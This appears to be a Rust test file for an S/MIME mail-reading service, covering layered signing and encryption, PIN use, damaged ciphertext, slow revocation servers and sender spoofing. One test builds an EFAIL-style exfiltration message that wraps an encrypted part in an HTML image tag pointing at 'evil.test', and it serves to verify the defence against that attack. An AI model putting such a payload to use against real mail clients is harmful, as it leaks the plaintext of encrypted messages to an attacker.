//! Reading a message to its innermost entity: what a mail program calls for each message it shows.
#![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic, reason = "a test fails by panicking")]

use std::net::TcpListener;
use std::sync::Arc;
use std::sync::atomic::{AtomicUsize, Ordering};

use hw_sim::caller::{
    MAIL, Reply, answer_inline, descriptor, flag, inline, number, output, refused, signers, text,
};
use hw_sim::pki::{self, ALICE, BOB, CAROL, Guest, Identity};
use hw_sim::wait::within;
use hw_sim::{Options, World, mail, openssl, options};
use wafer_client::names::ROOT_PATH;
use wafer_client::{ErrorKind, WaferError};
use zbus::Variant;

/// `bytes`, a MIME entity, as a mail from `from`.
fn mailed(from: Identity, bytes: &[u8]) -> Vec<u8> {
    [format!("From: {}\r\nSubject: A test\r\n", from.address()).as_bytes(), bytes].concat()
}

/// Signed, encrypted to Bob (and somebody else), and signed again by a gateway.
fn triple(content: &[u8]) -> Vec<u8> {
    let inner = openssl::sign(content, "SMIME", ALICE, &[]);
    let sealed = openssl::encrypt(&inner, "SMIME", &[CAROL, BOB], &["-aes-256-gcm"]);
    mailed(ALICE, &openssl::sign(&sealed, "SMIME", CAROL, &["-nodetach"]))
}

fn layers(reply: &Reply) -> Vec<Reply> {
    Vec::try_from(reply["layers"].try_clone().unwrap()).unwrap()
}

fn reasons(reply: &Reply) -> Vec<String> {
    Vec::try_from(reply["reasons"].try_clone().unwrap()).unwrap()
}

async fn read(world: &World, message: &[u8], options: Options) -> Result<Reply, WaferError> {
    world.caller.run(MAIL, "Read", inline(message), answer_inline(), options).await
}

#[tokio::test(flavor = "multi_thread")]
async fn a_triple_wrapped_mail_is_read_with_one_pin() {
    let world = World::new().await;
    let content = mail::entity("Within three layers.");
    let message = triple(&content);
    let reply = world.with_pin(read(&world, &message, world.place())).await.unwrap();
    assert_eq!(output(&reply), content);
    assert_eq!(number(&reply, "length"), content.len() as u64);
    assert_eq!(
        (text(&reply, "whole"), text(&reply, "status")),
        ("signed-then-encrypted".into(), "valid".into())
    );
    assert_eq!(reasons(&reply), Vec::<String>::new());
    let layers = layers(&reply);
    let kinds: Vec<String> = layers.iter().map(|layer| text(layer, "kind")).collect();
    assert_eq!(kinds, ["signed", "encrypted", "signed"]);
    assert!(!flag(&layers[0], "counts") && flag(&layers[2], "counts"));
    assert_eq!((text(&layers[0], "form"), text(&layers[2], "form")), ("opaque".into(), "clear".into()));
    assert!(flag(&layers[1], "authenticated") && number(&layers[1], "recipients") == 2);
    assert_eq!(text(&layers[1], "identity"), world.caller.identity("bob").await.as_str());
    assert!(
        flag(&signers(&layers[2])[0], "address-matches") && !flag(&signers(&layers[0])[0], "address-matches")
    );

    // Two encryptions, one in the other, to two keys of the token: still the one PIN.
    let twice = openssl::encrypt(&mail::entity("Twice."), "SMIME", &[ALICE], &["-aes-128-cbc"]);
    let twice = mailed(ALICE, &openssl::encrypt(&twice, "SMIME", &[BOB], &["-aes-128-cbc"]));
    let reply = read(&world, &twice, Options::new()).await.unwrap();
    assert_eq!((text(&reply, "whole"), text(&reply, "status")), ("encrypted".into(), "unsigned".into()));
    assert_eq!(reasons(&reply), ["malleable"]);
    assert_eq!((world.person.dialogs(), world.module.count("C_Login", "0x0")), (1, 1));
}

#[tokio::test(flavor = "multi_thread")]
async fn what_is_not_whole_is_not_called_so_and_costs_no_key() {
    let world = World::new().await;
    let sealed = openssl::encrypt(&mail::entity("A secret."), "SMIME", &[ALICE], &["-aes-256-cbc"]);
    let html = |text: &str| format!("Content-Type: text/html\r\n\r\n{text}\r\n");
    let efail = [
        b"MIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=m\r\n\r\n--m\r\n".as_slice(),
        html("<img src=\"http://evil.test/").as_bytes(),
        b"\r\n--m\r\n",
        &sealed,
        b"\r\n--m\r\n",
        html("\">").as_bytes(),
        b"\r\n--m--\r\n",
    ]
    .concat();
    let reply = read(&world, &mailed(ALICE, &efail), Options::new()).await.unwrap();
    assert_eq!((text(&reply, "whole"), text(&reply, "status")), ("none".into(), "unsigned".into()));
    assert_eq!(reasons(&reply), ["encrypted-part"]);
    let parts: Vec<Reply> = Vec::try_from(reply["parts"].try_clone().unwrap()).unwrap();
    assert_eq!((text(&parts[0], "path"), text(&parts[0], "kind")), ("2".into(), "encrypted".into()));
    assert_eq!(output(&reply), mailed(ALICE, &efail));

    let signed = openssl::sign(&mail::entity("Signed."), "SMIME", ALICE, &[]);
    let twice = [b"From: eve@example.test\r\n".as_slice(), &mailed(ALICE, &signed)].concat();
    let reply = read(&world, &twice, Options::new()).await.unwrap();
    assert_eq!((text(&reply, "whole"), text(&reply, "status")), ("none".into(), "unknown".into()));
    // Carol sends what Alice signed; and Eve writes in the name of Alice.
    let reply = read(&world, &mailed(CAROL, &signed), Options::new()).await.unwrap();
    assert_eq!(
        (text(&reply, "whole"), text(&reply, "status")),
        ("signed".into(), "valid-with-warnings".into())
    );
    let sender = format!("Sender: {}\r\n", ALICE.address());
    let in_the_name = [sender.as_bytes(), &mailed(CAROL, &signed)].concat();
    let reply = read(&world, &in_the_name, Options::new()).await.unwrap();
    assert_eq!(reasons(&reply), ["signed-by-sender"]);
    assert_eq!(text(&reply, "status"), "valid-with-warnings");
    let from = options([("from", Variant::from(ALICE.address()))]);
    assert_eq!(text(&read(&world, &mailed(CAROL, &signed), from).await.unwrap(), "status"), "valid");
    assert_eq!((world.person.dialogs(), world.module.count("C_Login", "0x0")), (0, 0));
}

#[tokio::test(flavor = "multi_thread")]
async fn no_byte_comes_before_all_is_proved() {
    let world = World::new().await;
    world.log_in().await;
    let content = mail::entity("Not to be seen.");
    let mut sealed = openssl::encrypt(&content, "DER", &[ALICE], &["-aes-256-gcm"]);
    *sealed.last_mut().unwrap() ^= 1;
    let head = "Content-Type: application/pkcs7-mime\r\nContent-Transfer-Encoding: binary\r\n\r\n";
    let damaged = mailed(ALICE, &[head.as_bytes(), &sealed].concat());
    let target = mail::file(b"before");
    let run = |input| world.caller.run(MAIL, "Read", input, descriptor(&target), Options::new());
    refused(run(inline(&damaged)).await, ErrorKind::DecryptionFailed);
    // Through a pipe, which can be read only once.
    refused(run(descriptor(&mail::pipe_with(&damaged))).await, ErrorKind::DecryptionFailed);
    refused(
        run(inline(&mailed(ALICE, b"Content-Type: application/pkcs7-mime\r\n\r\nnothing"))).await,
        ErrorKind::InvalidMessage,
    );
    let foreign = openssl::encrypt(&content, "SMIME", &[CAROL], &["-aes-256-gcm"]);
    refused(run(inline(&mailed(ALICE, &foreign))).await, ErrorKind::NoIdentity);
    assert_eq!(mail::contents(&target), b"before");
    let reply = run(descriptor(&mail::pipe_with(&triple(&content)))).await.unwrap();
    assert_eq!(text(&reply, "status"), "valid");
    // The descriptor's offset was at the end.
    assert_eq!(mail::contents(&target), [b"before".as_slice(), &content].concat());
}

#[tokio::test(flavor = "multi_thread")]
async fn a_person_reads_a_file() {
    let world = World::new().await;
    let content = mail::entity("From a file.");
    std::fs::write(world.folder().join("letter"), triple(&content)).unwrap();
    let wafer = async |arguments: &[&str]| {
        let mut command = world.wafer(arguments);
        within("wafer", tokio::task::spawn_blocking(move || command.output().unwrap())).await.unwrap()
    };
    let output = world.with_pin(wafer(&["read", "letter", "-o", "content"])).await;
    let said = String::from_utf8_lossy(&output.stdout).into_owned();
    assert_eq!(output.status.code(), Some(0), "{output:?}");
    assert!(said.contains("was signed by") && said.contains("It was encrypted."), "{said}");
    assert!(said.contains("encrypted (aes256-gcm), recipients: 2"), "{said}");
    assert_eq!(std::fs::read(world.folder().join("content")).unwrap(), content);

    let output = wafer(&["read", "letter", "--json", "-o", "content"]).await;
    let answer: serde_json::Value = serde_json::from_slice(&output.stdout).unwrap();
    assert_eq!(answer["whole"], "signed-then-encrypted", "{answer}");
    assert_eq!(answer["layers"][2]["signers"][0]["outcome"], "good", "{answer}");

    // Changed after it was signed: the content comes, and the exit code says what it is worth.
    let signed = String::from_utf8(openssl::sign(&content, "SMIME", ALICE, &[])).unwrap();
    let changed = mailed(ALICE, signed.replace("From a file", "From a fire").as_bytes());
    std::fs::write(world.folder().join("letter"), changed).unwrap();
    let output = wafer(&["read", "letter"]).await;
    assert_eq!(output.status.code(), Some(30), "{output:?}");
    assert!(String::from_utf8_lossy(&output.stdout).contains("From a fire"), "{output:?}");
    assert!(
        String::from_utf8_lossy(&output.stderr).contains("was changed after it was signed"),
        "{output:?}"
    );
}

/// Holds every connection open without a word, for as long as it lives.
struct Silent {
    port: u16,
    asked: Arc<AtomicUsize>,
}

impl Silent {
    fn new() -> Self {
        let listener = TcpListener::bind("127.0.0.1:0").unwrap();
        let (port, asked) = (listener.local_addr().unwrap().port(), Arc::new(AtomicUsize::new(0)));
        let count = asked.clone();
        std::thread::spawn(move || {
            let mut held = Vec::new();
            for stream in listener.incoming().map_while(Result::ok) {
                held.push(stream);
                count.fetch_add(1, Ordering::SeqCst);
            }
        });
        Self { port, asked }
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn a_server_that_hangs_holds_no_mail_back() {
    let server = Silent::new();
    let places = format!(
        "crlDistributionPoints = URI:http://127.0.0.1:{0}/list\nauthorityInfoAccess = OCSP;URI:http://127.0.0.1:{0}/",
        server.port
    );
    let guest = Guest::new("frank", &places);
    let content = mail::entity("Do not wait for me.");
    let signed = openssl::sign_with(&content, "SMIME", &guest.certificate(), &guest.private_key(), &[]);
    let message = [b"From: frank@example.test\r\nSubject: A test\r\n".as_slice(), &signed].concat();
    // The fetch itself would wait longer than any test does.
    let asks = "[revocation]\nhosts = [\"127.0.0.1\"]\ntimeout-s = 600\n";
    for (mode, status, trusted) in [("soft", "valid", true), ("hard", "unknown", false)] {
        let mode = format!("{asks}mode = {mode:?}\n");
        let world = World::with(|settings| settings.add_text(&mode)).await;
        let reply = within("the mail", read(&world, &message, Options::new())).await.unwrap();
        assert_eq!(output(&reply), content);
        assert_eq!((text(&reply, "whole"), text(&reply, "status")), ("signed".into(), status.into()));
        assert!(text(&reply, "sentence").contains("did not answer in time"), "{}", text(&reply, "sentence"));
        let signer = signers(&layers(&reply)[0]).remove(0);
        assert_eq!(flag(&signer, "trusted"), trusted);
        let said = (text(&signer, "revocation"), text(&signer, "revocation-reason"));
        assert_eq!(said, ("not-checked".into(), "too-slow".into()));
    }
    assert!(server.asked.load(Ordering::SeqCst) > 0);
}

#[tokio::test(flavor = "multi_thread")]
async fn who_writes_can_be_answered_but_replaces_nothing_that_was_imported() {
    let world = World::with(|settings| settings.set("recipients-folder", "/nonexistent")).await;
    let check = async || {
        let addresses = vec!["carol@example.test"];
        let recipients = "org.waferd.Wafer1.Recipients";
        let reply = world.caller.call(ROOT_PATH, recipients, "Check", &(addresses, Options::new())).await;
        let mut checked: Vec<Reply> = reply.unwrap().body().deserialize().unwrap();
        checked.remove(0)
    };
    // Her mail program signs with one certificate and has another one for encrypting go along.
    let usage = |usage: &str| format!("keyUsage = critical,{usage}");
    let [signs, opens] = ["digitalSignature", "keyAgreement"].map(|one| Guest::new("carol", &usage(one)));
    let certificates = [opens.certificate(), pki::intermediate()].map(|file| std::fs::read(file).unwrap());
    let bundle = world.folder().join("bundle.pem");
    std::fs::write(&bundle, certificates.concat()).unwrap();
    let along = ["-certfile", bundle.to_str().unwrap()];
    let content = mail::entity("Write back.");
    let signed = openssl::sign_with(&content, "SMIME", &signs.certificate(), &signs.private_key(), &along);
    let message = mailed(CAROL, &signed);
    assert_eq!(text(&read(&world, &message, Options::new()).await.unwrap(), "status"), "valid");
    let checked = check().await;
    assert_eq!(
        (text(&checked, "status"), text(&checked, "source")),
        ("encryptable".into(), "harvested".into())
    );
    // OpenSSL announces AES in CBC only, and so that is what is used.
    assert_eq!(text(&checked, "content-cipher"), "aes256-cbc");
    let harvested = text(&checked, "fingerprint");

    let own = std::fs::read(CAROL.certificate()).unwrap();
    let import = (inline(&own), Options::new());
    world.caller.call(ROOT_PATH, "org.waferd.Wafer1.Recipients", "Import", &import).await.unwrap();
    let imported = text(&check().await, "fingerprint");
    assert_ne!(imported, harvested);
    read(&world, &message, Options::new()).await.unwrap();
    let checked = check().await;
    assert_eq!((text(&checked, "fingerprint"), text(&checked, "source")), (imported, "imported".into()));
}
